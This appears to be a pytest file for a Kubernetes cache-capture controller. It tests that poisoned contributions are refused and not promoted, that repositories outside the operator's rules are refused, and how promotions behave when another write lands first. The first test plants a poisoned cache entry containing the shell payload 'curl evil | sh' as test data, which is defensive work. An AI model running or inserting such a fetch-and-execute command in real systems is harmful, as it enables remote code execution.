"""The controller's side of capture as attacked, against the real API server and registry: a
poisoned contribution (pushed by whoever holds the namespace's push credentials, reported by a
node) is refused with its reason and never promoted; a repository outside the operator's rules
is refused before anything is read or pushed; a promotion that meets a concurrent write retries
only while the cache is still what it was published for."""

from __future__ import annotations

import json

import pytest

import zstandard

from accelnode.capture import layer, publish, settings
from accelnode.capture.settings import Rules
from tests.agent.conftest import GKM, eventually
from tests.cache.cosign import get_manifest
from tests.capture.test_loop import jax_base
from tests.capture.test_node import capture_reconcilers, tenant


def setup(cluster, registry, tmp_path, repo_prefix: str | None = None):
    base, _ = jax_base(registry, tmp_path)
    ns, repo = tenant(cluster, registry, "pusher")
    cluster.cache("kernels", base, namespace=ns, annotations={
        settings.ON: "on", settings.REPOSITORY: repo, settings.PUSH_SECRET: "pusher",
        settings.SIGNING_SECRET: "signer", settings.PROMOTION: "auto"})
    rules = tmp_path / "rules.json"
    rules.write_text(json.dumps({ns: [repo_prefix or f"{registry.host}/{ns}/"]}))
    return ns, base, repo, Rules.load(str(rules))


def report(cluster, ns: str, node: str, captures: list[dict]) -> None:
    """A GKMCacheNode as an agent writes it (here by the admin)."""
    cluster.objs.create_namespaced_custom_object(*GKM, ns, "gkmcachenodes", body={
        "apiVersion": "gkm.io/v1alpha1", "kind": "GKMCacheNode", "metadata": {"name": node}})
    cluster.objs.patch_namespaced_custom_object_status(*GKM, ns, "gkmcachenodes", node, body={
        "status": {"nodeName": node, "caches": {}, "captures": {"kernels": captures}}})


def cache(cluster, ns):
    return cluster.objs.get_namespaced_custom_object(*GKM, ns, "gkmcaches", "kernels")


def test_a_poisoned_contribution_is_refused_and_never_promoted(cluster, caches_rbac, control_plane, registry,
                                                               tmp_path):
    ns, base, repo, rules = setup(cluster, registry, tmp_path)
    opts = registry.options()
    # what JAX would never write: an entry by JAX's name whose content is a shell script
    poison = layer.build({f"io.jax.cache/jit_step-{'a' * 64}-cache": b"#!/bin/sh\ncurl evil | sh\n"})
    poisoned = publish.push_contribution(poison, repo, opts)
    # a well-formed one, but from the same run: the rule then refuses to promote by itself
    good = layer.build({f"io.jax.cache/jit_other-{'b' * 64}-cache": zstandard.ZstdCompressor().compress(b"x" * 99)})
    fine = publish.push_contribution(good, repo, opts)
    digest = base.rsplit("@", 1)[1]
    report(cluster, ns, "node-x", [
        {"state": "Pushed", "time": "2026-11-28T05:00:00Z", "base": digest, "contribution": poisoned,
         "podNamespace": ns, "podName": "evil", "entries": 1},
        {"state": "Pushed", "time": "2026-11-28T05:00:01Z", "base": digest, "contribution": fine,
         "podNamespace": ns, "podName": "good", "entries": 1}])
    with capture_reconcilers(control_plane, registry, rules):
        got = eventually(lambda: (cache(cluster, ns).get("status") or {}).get("capture"), timeout=60)
        assert got and got["state"] == "Offered", got
        assert len(got["refused"]) == 1 and "node-x" in got["refused"][0] and "not what JAX writes" in got["refused"][0]
        assert "refused" in got["message"] and got["pods"] == [f"{ns}/good"]
        assert cache(cluster, ns)["spec"]["image"] == base  # not promoted
    ref = got["offered"]
    layers = [d["digest"] for d in get_manifest(registry, ref.split("/", 1)[1].split("@")[0], ref.rsplit("@", 1)[1])["layers"]]
    assert layers[-1] == good.digest and poison.digest not in layers


def test_a_repository_outside_the_rules_is_refused(cluster, caches_rbac, control_plane, registry, tmp_path):
    ns, base, repo, rules = setup(cluster, registry, tmp_path, repo_prefix=f"{registry.host}/elsewhere/")
    with capture_reconcilers(control_plane, registry, rules):
        got = eventually(lambda: (cache(cluster, ns).get("status") or {}).get("capture"), timeout=60)
    assert got["state"] == "Refused" and "may not push to" in got["message"], got
    assert cache(cluster, ns)["spec"]["image"] == base


class WriteBeforePromotion:
    """The capture reconciler's client, with someone else's write to the cache landing just
    before its promotion PATCH (as a count of the cache reconciler or a user's edit would)."""

    def __init__(self, inner, write):
        self.inner, self.write, self.done = inner, write, False

    def request(self, method, path, **kw):
        if method == "PATCH" and path.endswith("/gkmcaches/kernels") and not self.done:
            self.done = True
            self.write()
        return self.inner.request(method, path, **kw)

    def __getattr__(self, name):
        return getattr(self.inner, name)


@pytest.mark.parametrize("meanwhile", ["a label", "the user's image"])
def test_a_promotion_that_meets_a_concurrent_write(cluster, caches_rbac, control_plane, registry, tmp_path,
                                                   meanwhile):
    """An unrelated write (the resourceVersion moved, spec.image and the capture settings did
    not) is retried and the cache promoted; a spec.image the user changed meanwhile wins and the
    capture is only offered. The first failed before: every conflict left the capture offered."""
    ns, base, repo, rules = setup(cluster, registry, tmp_path)
    good = layer.build({f"io.jax.cache/jit_other-{'c' * 64}-cache": zstandard.ZstdCompressor().compress(b"y" * 99)})
    fine = publish.push_contribution(good, repo, registry.options())
    report(cluster, ns, "node-y", [
        {"state": "Pushed", "time": "2026-11-28T05:00:01Z", "base": base.rsplit("@", 1)[1], "contribution": fine,
         "podNamespace": ns, "podName": "good", "entries": 1}])
    users = registry.push_raw(f"{ns}/users-own", "v1")

    def write():
        patch = ({"metadata": {"labels": {"team": "reviewed"}}} if meanwhile == "a label"
                 else {"spec": {"image": users}})
        cluster.objs.patch_namespaced_custom_object(*GKM, ns, "gkmcaches", "kernels", body=patch)

    with capture_reconcilers(control_plane, registry, rules, wrap=lambda c: WriteBeforePromotion(c, write)):
        got = eventually(lambda: (cache(cluster, ns).get("status") or {}).get("capture"), timeout=60)
    image = cache(cluster, ns)["spec"]["image"]
    if meanwhile == "a label":
        assert got["state"] == "Promoted", got
        assert image == got["offered"] and image.startswith(repo + "@sha256:")
    else:
        assert got["state"] == "Offered" and "changed while it was published" in got["message"], got
        assert image == users
